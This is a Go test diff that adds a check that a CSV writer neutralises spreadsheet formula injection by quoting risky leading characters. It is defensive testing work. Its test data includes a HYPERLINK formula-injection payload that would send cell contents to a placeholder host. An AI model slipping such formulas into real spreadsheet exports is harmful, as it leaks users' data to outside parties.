@@ -248,6 +248,32 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// TestCSVFormulas checks OWASP's rule for CSV cells: one that starts with
+// =, +, -, @, a tab or a carriage return gets a single quote in front;
+// others are left as they are, and the result is valid CSV.
+func TestCSVFormulas(t *testing.T) {
+	cells := map[string]string{
+		"=1+1": "'=1+1", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"a=1": "a=1", "": "", "'=x": "'=x", "PRUEBA 1": "PRUEBA 1", "2026-03-01T08:30:15Z": "2026-03-01T08:30:15Z",
+		`=HYPERLINK("http://x/?"&A1,"y")`: `'=HYPERLINK("http://x/?"&A1,"y")`,
+	}
+	var b bytes.Buffer
+	w := NewCSVWriter(&b)
+	var in, want []string
+	for c, q := range cells {
+		in, want = append(in, c), append(want, q)
+	}
+	w.Write(in)
+	w.Flush()
+	if err := w.Error(); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(rows) != 1 || !reflect.DeepEqual(rows[0], want) {
+		t.Errorf("CSV %q read back as %q, %v; want %q", in, rows, err, want)
+	}
+}
+
 func TestSnippets(t *testing.T) {
 	k := testKey()
 	k.Company.Ref = "273-542-26244"
